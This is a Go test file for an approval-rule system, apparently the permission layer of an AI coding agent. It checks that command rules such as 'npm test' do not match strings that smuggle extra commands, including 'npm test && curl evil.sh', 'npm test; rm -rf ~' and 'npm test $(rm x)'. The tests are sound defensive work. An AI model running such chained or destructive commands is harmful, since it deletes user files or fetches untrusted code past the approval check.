package approval

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"

	"gantry/internal/safety"
)

func TestCommandPrefix(t *testing.T) {
	t.Parallel()
	for cmd, want := range map[string]string{
		"npm test":                   "npm test",
		"npm test -- --watch":        "npm test",
		"go build ./...":             "go build",
		"go test -race ./internal/x": "go test",
		"npm run build":              "npm run build",
		"ls -la":                     "ls",
		"git commit -m 'wip'":        "git commit",
		"python3 script.py":          "python3 script.py", // an interpreter runs what it is given
		"bash  -c  'rm x'":           "bash -c 'rm x'",
		"/usr/bin/env FOO=1 make":    "/usr/bin/env FOO=1 make",
		"sudo apt install x":         "sudo apt install x",
		"npm test && npm run lint":   "npm test && npm run lint", // compound: kept whole
		"make 2":                     "make",
	} {
		require.Equal(t, want, commandPrefix(cmd), cmd)
	}
}

func TestCommandRuleMatching(t *testing.T) {
	t.Parallel()
	rule := func(cmd string) Rule {
		return ruleFor(Request{Card: Card{Kind: KindCommand, Command: cmd, Severity: safety.AnalyzeCommand(cmd).Severity}}, ScopeUser, "")
	}
	matches := func(r Rule, cmd string) bool {
		return r.allows(Request{Card: Card{Kind: KindCommand, Command: cmd, Severity: safety.AnalyzeCommand(cmd).Severity}}, "/ws")
	}
	npmTest := rule("npm test")
	require.True(t, matches(npmTest, "npm test"))
	require.True(t, matches(npmTest, "npm  test --coverage"))
	require.False(t, matches(npmTest, "npm testing"))
	require.False(t, matches(npmTest, "npm test && curl evil.sh"), "a prefix never reaches past shell syntax")
	require.False(t, matches(npmTest, "npm test; rm -rf ~"))
	require.False(t, matches(npmTest, "npm test $(rm x)"))
	require.False(t, matches(npmTest, "FOO=1 npm test"))

	gitPush := rule("git push")
	require.True(t, matches(gitPush, "git push origin main"))
	require.False(t, matches(gitPush, "git push --force"), "a rule allows no worse danger than it was made for")

	compound := rule("npm test && npm run lint")
	require.True(t, matches(compound, "npm test  &&  npm run lint"))
	require.False(t, matches(compound, "npm test && npm run lint && rm x"))
	require.False(t, matches(compound, "npm test"))

	bash := rule("bash build.sh")
	require.False(t, matches(bash, "bash -c 'rm -r src'"))
}

func TestEditRuleMatchesThePathOnly(t *testing.T) {
	t.Parallel()
	r := ruleFor(Request{Card: Card{Kind: KindEdit, Path: "src/[id]/page.tsx"}}, ScopeProject, "/ws/")
	require.NoError(t, r.validate())
	require.Equal(t, "/ws", r.Workspace)
	allows := func(p, ws string) bool { return r.allows(Request{Card: Card{Kind: KindEdit, Path: p}}, ws) }
	require.True(t, allows("src/[id]/page.tsx", "/ws"))
	require.True(t, allows("./src/[id]/page.tsx", "/ws/"))
	require.False(t, allows("src/i/page.tsx", "/ws"), "glob characters in the path are literal")
	require.False(t, allows("src/[id]/page.tsx", "/other"))
	require.False(t, r.allows(Request{Card: Card{Kind: KindCommand, Command: "src/[id]/page.tsx"}}, "/ws"))

	dir := Rule{Kind: KindEdit, PathGlob: "docs/**", Scope: ScopeUser}
	require.NoError(t, dir.validate())
	require.True(t, dir.allows(Request{Card: Card{Kind: KindEdit, Path: "docs/a/b.md"}}, "/anywhere"))
}

func TestRuleValidation(t *testing.T) {
	t.Parallel()
	for name, r := range map[string]Rule{
		"no kind":               {CommandPrefix: "ls", Scope: ScopeUser},
		"empty prefix":          {Kind: KindCommand, CommandPrefix: "  ", Scope: ScopeUser},
		"critical":              {Kind: KindCommand, CommandPrefix: "rm", Severity: safety.SeverityCritical, Scope: ScopeUser},
		"unknown severity":      {Kind: KindCommand, CommandPrefix: "rm", Severity: "meh", Scope: ScopeUser},
		"edit without a glob":   {Kind: KindEdit, Scope: ScopeUser},
		"bad glob":              {Kind: KindEdit, PathGlob: "src/[", Scope: ScopeUser},
		"project without root":  {Kind: KindEdit, PathGlob: "a", Scope: ScopeProject},
		"user naming a project": {Kind: KindEdit, PathGlob: "a", Scope: ScopeUser, Workspace: "/ws"},
		"no scope":              {Kind: KindEdit, PathGlob: "a"},
	} {
		require.Error(t, r.validate(), name)
	}
}

func TestFileRuleStorePersists(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), "gantry", "approval-rules.json")
	s := OpenFileRuleStore(path)
	require.Empty(t, s.Problem())
	require.Empty(t, s.Rules())

	npm := Rule{Kind: KindCommand, CommandPrefix: "npm test", Severity: safety.SeverityNone, Scope: ScopeProject, Workspace: "/ws"}
	docs := Rule{Kind: KindEdit, PathGlob: "docs/**", Scope: ScopeUser}
	require.NoError(t, s.AddRule(npm))
	require.NoError(t, s.AddRule(docs))
	require.NoError(t, s.AddRule(npm), "adding it again changes nothing")
	require.Error(t, s.AddRule(Rule{Kind: KindCommand, Scope: ScopeUser}))

	again := OpenFileRuleStore(path)
	require.Empty(t, again.Problem())
	require.Equal(t, []Rule{npm, docs}, again.Rules())

	require.NoError(t, again.RemoveRule(npm))
	require.NoError(t, again.RemoveRule(npm))
	require.Equal(t, []Rule{docs}, OpenFileRuleStore(path).Rules())
}

func TestFileRuleStoreSurvivesABadFile(t *testing.T) {
	t.Parallel()
	for name, content := range map[string]string{
		"not json":     `{"rules": [`,
		"invalid rule": `{"rules": [{"kind": "command", "commandPrefix": "", "scope": "user"}]}`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			path := filepath.Join(dir, "approval-rules.json")
			require.NoError(t, os.WriteFile(path, []byte(content), 0o644))

			s := OpenFileRuleStore(path)
			require.Empty(t, s.Rules())
			require.Contains(t, s.Problem(), path)
			require.Contains(t, s.Problem(), "your old file was kept as")

			kept, err := filepath.Glob(path + ".broken-*")
			require.NoError(t, err)
			require.Len(t, kept, 1)
			old, err := os.ReadFile(kept[0])
			require.NoError(t, err)
			require.Equal(t, content, string(old))

			r := Rule{Kind: KindEdit, PathGlob: "a.txt", Scope: ScopeUser}
			require.NoError(t, s.AddRule(r))
			require.Equal(t, []Rule{r}, OpenFileRuleStore(path).Rules())
		})
	}
}

func TestFileRuleStoreFailedSaveChangesNothing(t *testing.T) {
	t.Parallel()
	blocker := filepath.Join(t.TempDir(), "file")
	require.NoError(t, os.WriteFile(blocker, nil, 0o644))
	s := OpenFileRuleStore(filepath.Join(blocker, "approval-rules.json")) // its folder is a file
	require.Contains(t, s.Problem(), "Could not read")
	require.ErrorContains(t, s.AddRule(Rule{Kind: KindEdit, PathGlob: "a.txt", Scope: ScopeUser}), "saving approval rules")
	require.Empty(t, s.Rules())
}
